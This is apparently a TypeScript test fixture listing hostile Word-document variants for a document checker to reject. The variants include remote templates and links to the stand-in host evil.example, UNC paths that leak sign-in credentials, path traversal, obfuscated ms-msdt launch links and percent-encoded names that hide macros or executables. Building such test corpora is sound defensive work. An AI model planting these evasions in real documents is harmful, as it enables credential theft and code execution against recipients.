import type { HostileManuscript } from './hostile-manuscript.ts'
import { contentTypes, manuscript, relations, withRelation } from './plain-manuscript.ts'

const remoteTemplate = relations([{ type: 'attachedTemplate', target: 'http://evil.example/t.dotm', external: true }])
const named = (name: string, data = remoteTemplate): HostileManuscript => ({
	name: `a part called ${name}`,
	make: () => manuscript([{ name, data }]),
	why: 'a disguised name',
})
const leading = (type: string, target: string, why: string): HostileManuscript => ({
	name: `${type} at ${JSON.stringify(target)}`,
	make: () => withRelation({ type, target, external: true }, 'word/_rels/settings.xml.rels'),
	why,
})

/** Names and addresses that some reader takes for others. */
export const hostileNames: HostileManuscript[] = [
	named('word/_rels/settings.xml.%72els'),
	named('word/_rels/settings.xml.rel%73'),
	named('word/_rels/settings.xml.%2572els'),
	named('word/_rels/settings%2Exml.rels'),
	named('word/%5Frels/settings.xml.rels'),
	named('word/_rels/settings.xml.rels/[0].piece'),
	named('word/_rels/settings.xml.rels/[0].last.piece'),
	named('word/_rels/settings.xml.RELS/%5B0%5D.PIECE'),
	named('word/vba%50roject.bin'),
	named('word/embeddings/x.ex%65'),
	named('word/embeddings/x.exe.'),
	named('word/embeddings/x.exe '),
	{
		name: 'a DTD behind an extension spelt with a percent sign',
		make: () =>
			manuscript(
				[{ name: 'word/extra.dat', data: '<!DOCTYPE a [<!ENTITY x "y">]><a/>' }],
				{},
				{ types: contentTypes(undefined, '<Default Extension="d%61t" ContentType="application/xml"/>') },
			),
		why: 'a disguised name',
	},
	leading('image', '/\\evil.example/s/x.png', 'signs in to a stranger'),
	leading('image', '\\/evil.example/s/x.png', 'signs in to a stranger'),
	leading('image', '//evil.example/s/x.png', 'signs in to a stranger'),
	leading('image', '%5C%5Cevil.example/s/x.png', 'signs in to a stranger'),
	leading('image', '&#x200b;\\\\evil.example\\s\\x.png', 'signs in to a stranger'),
	leading('attachedTemplate', 'file:///C:/../../evil.example/x.dotm', 'climbs to a share'),
	leading('attachedTemplate', 'file:///C:/%2e%2e/%2e%2e/evil.example/x.dotm', 'climbs to a share'),
	leading('attachedTemplate', 'C:\\..\\\\evil\\x.dotm', 'climbs to a share'),
	leading('attachedTemplate', 'C:\\.. .\\\\evil\\x.dotm', 'climbs to a share'),
	leading('attachedTemplate', 'file:///Volumes/evil/x.dotm', 'a mounted share'),
	leading('attachedTemplate', 'file:////evil.example/s/x.dotm', 'signs in to a stranger'),
	leading('attachedTemplate', 'file:////home/s/x.dotm', 'signs in to a stranger'),
	leading('attachedTemplate', 'file:\\\\evil\\s\\x.dotm', 'signs in to a stranger'),
	leading('attachedTemplate', 'file:///\\\\evil\\s\\x.dotm', 'signs in to a stranger'),
	leading('attachedTemplate', '\\??\\UNC\\evil\\s\\x.dotm', 'signs in to a stranger'),
	leading('attachedTemplate', '..\\..\\\\evil\\s\\x.dotm', 'climbs to a share'),
	leading('attachedTemplate', 'http:evil.example:x.dotm', 'an address that looks like an old path'),
	leading('attachedTemplate', 'ftp://evil.example/x.dotm', 'remote template'),
	leading('hyperlink', '\\\\evil\\x.exe', 'signs in to a stranger'),
	leading('hyperlink', 'file://evil.example/s/report.pdf', 'signs in to a stranger'),
	leading('hyperlink', 'file:////evil/x.docx', 'signs in to a stranger'),
	leading('hyperlink', 'file:///C:/Windows/System32/calc.exe', 'starts a program'),
	leading('hyperlink', 'figures/view.s%63r', 'starts a program'),
	leading('hyperlink', 'view.lnk. ', 'starts a program'),
	leading('hyperlink', 'm&#9;s-msdt:/id', 'starts a program'),
	leading('hyperlink', '&#x200b;ms-msdt:/id', 'starts a program'),
	leading('hyperlink', 'ms-m&#xad;sdt:/id', 'starts a program'),
	{
		name: 'a share that says it is inside',
		make: () => withRelation({ type: 'image', target: '/\\evil.example/a.png' }),
		why: 'the mode lies',
	},
]
